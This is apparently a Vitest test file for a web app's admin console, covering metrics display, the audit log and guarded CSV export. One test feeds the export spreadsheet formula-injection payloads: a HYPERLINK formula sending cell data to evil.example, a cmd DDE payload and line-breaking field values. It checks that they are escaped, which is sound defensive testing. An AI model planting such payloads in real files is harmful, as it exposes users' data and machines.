import { AppError, type AuditEntry, unguardCsvCell } from '@sillage/contract';
import { screen, within } from '@testing-library/react';
import { userEvent } from '@testing-library/user-event';
import { describe, expect, test, vi } from 'vitest';
import { fakeApi } from '../../testing/fake-api.tsx';
import { givenSignedIn, givenUser } from '../../testing/given.ts';
import { renderApp } from '../../testing/render.tsx';

const overview = {
  health: { status: 'ok' },
  version: '1.0.0',
  node: '24.0.0',
  role: 'all',
  at: '2026-11-28T12:00:00.000Z',
  figures: {
    sillage_pages_checked: { all: 200, readable: 150 },
    sillage_check_delay_seconds: { 0.5: 1.25, 0.95: 600 },
    sillage_database_size_bytes: 12_345_678,
    sillage_deliveries: { sent: 1234, failed: 0 },
  },
};

const entry: AuditEntry = {
  id: '0198c0de-0000-7000-8000-000000000001',
  at: '2026-11-28T12:00:00.000Z',
  actor: { id: '0198c0de-0000-7000-8000-000000000002', name: 'olive' },
  action: 'operator.grant',
  subject: { kind: 'user', id: '0198c0de-0000-7000-8000-000000000003', name: 'amber' },
  before: { operator: false },
  after: { operator: true },
  address: '192.0.2.7',
};

const givenOperator = () => givenSignedIn(givenUser({ isOperator: true }));

/** Reads CSV as RFC 4180 defines it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

const findFigure = async (label: string) => (await screen.findByText(label)).nextSibling?.textContent;

describe('console', () => {
  test('a user who is no operator sees that the page does not exist', async () => {
    givenSignedIn();
    renderApp('/admin');
    await screen.findByRole('heading', { level: 1, name: 'Nothing but air' });
    await userEvent.click(await screen.findByRole('button', { name: /Amber/ }));
    expect(screen.queryByRole('link', { name: 'Console', hidden: true })).toBeNull();
  });

  test('the overview shows each figure of the metrics, and a dash for one that was not read', async () => {
    givenOperator();
    fakeApi({ adminOverview: { show: () => overview } });
    renderApp('/admin');
    await screen.findByText('All is well');
    expect(await findFigure('Pages checked in the last hour')).toBe('200');
    expect(await findFigure('Of these, readable')).toBe('75%');
    expect(await findFigure('From due to checked, half within')).toBe('1.3 s');
    expect(await findFigure('From due to checked, 95% within')).toBe('10 min');
    expect(await findFigure('Size on disk')).toBe('12.3 MB');
    expect(await findFigure('Sent in the last day')).toBe('1,234');
    expect(await findFigure('Pages due now')).toBe('–');
  });

  test('the overview names what is wrong', async () => {
    givenOperator();
    const health = { status: 'degraded', problems: { 'exchange rates': 'too old' }, overloaded: ['passwords'] };
    fakeApi({ adminOverview: { show: () => ({ ...overview, health }) } });
    renderApp('/admin');
    await screen.findByText('State: degraded');
    screen.getByText('exchange rates: too old');
    screen.getByText('passwords: overloaded');
  });

  test('the audit log shows who did what, and loads older entries', async () => {
    givenOperator();
    const list = vi.fn(({ query }: { query: { before?: string | undefined } }) =>
      query.before === undefined
        ? { entries: [entry], hasMore: true }
        : { entries: [{ ...entry, id: entry.actor?.id ?? '', actor: null, address: null }], hasMore: false },
    );
    fakeApi({ adminAudit: { list } });
    renderApp('/admin/audit');
    const [item] = (await screen.findAllByText('operator: no → yes')).map((text) => text.closest('li'));
    expect(item?.textContent).toContain('Made an operator: amber');
    screen.getByText('By olive, from 192.0.2.7');
    await userEvent.click(screen.getByRole('button', { name: 'Show older entries' }));
    await screen.findByText('On the command line');
    expect(list.mock.lastCall?.[0].query).toEqual({ before: entry.id });
  });

  test('the audit log as CSV runs no formula and adds no line, whatever names and notes contain', async () => {
    givenOperator();
    const hostile = [
      '=HYPERLINK("https://evil.example?"&A1)',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      'a"\r\n=1+1,"b',
      '\uff1d1+1',
    ];
    const entries = hostile.map((text) => ({
      ...entry,
      actor: { id: entry.id, name: text },
      subject: { kind: 'fragrance', id: text, name: text },
      before: { note: text },
      after: { [text]: text },
    }));
    let file = new Blob();
    URL.createObjectURL = (given) => {
      file = given as Blob;
      return 'blob:';
    };
    fakeApi({ adminAudit: { list: () => ({ entries: [], hasMore: false }), exportAll: () => entries } });
    renderApp('/admin/audit');
    await userEvent.click(await screen.findByRole('button', { name: 'Download as CSV' }));
    await screen.findByText('The audit log was downloaded');
    const [names = [], ...rows] = parseCsv(await file.text());
    expect(rows.map(({ length }) => length)).toEqual(hostile.map(() => names.length));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d]/);
    const cells = (name: string) => rows.map((row) => row[names.indexOf(name)] ?? '');
    expect(cells('subject').map(unguardCsvCell)).toEqual(hostile);
    expect(cells('before').map((text): unknown => JSON.parse(text))).toEqual(hostile.map((note) => ({ note })));
  });

  test('a request that needs a fresh sign-in is repeated after the password', async () => {
    givenOperator();
    let isFresh = false;
    const reauthenticate = vi.fn(() => {
      isFresh = true;
      return null;
    });
    const exportAll = vi.fn(() => {
      if (!isFresh) throw new AppError('REAUTHENTICATION_NEEDED');
      return [entry];
    });
    URL.createObjectURL = () => 'blob:';
    fakeApi({
      adminAudit: { list: () => ({ entries: [entry], hasMore: false }), exportAll },
      account: { reauthenticate },
    });
    renderApp('/admin/audit');
    const user = userEvent.setup();
    await user.click(await screen.findByRole('button', { name: 'Download as CSV' }));
    const dialog = within(await screen.findByRole('dialog', { name: 'Confirm that it is you' }));
    await user.type(dialog.getByLabelText('Password'), 'the right one');
    await user.click(dialog.getByRole('button', { name: 'Confirm' }));
    await screen.findByText('The audit log was downloaded');
    expect(exportAll).toHaveBeenCalledTimes(2);
    expect(reauthenticate).toHaveBeenCalledOnce();
  });

  test('cancelling the question changes nothing, and says why', async () => {
    givenOperator();
    const exportAll = vi.fn(() => {
      throw new AppError('REAUTHENTICATION_NEEDED');
    });
    fakeApi({ adminAudit: { list: () => ({ entries: [], hasMore: false }), exportAll } });
    renderApp('/admin/audit');
    const user = userEvent.setup();
    await user.click(await screen.findByRole('button', { name: 'Download as CSV' }));
    await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Cancel' }));
    await screen.findByText('Please confirm your identity first');
    expect(exportAll).toHaveBeenCalledOnce();
  });
});
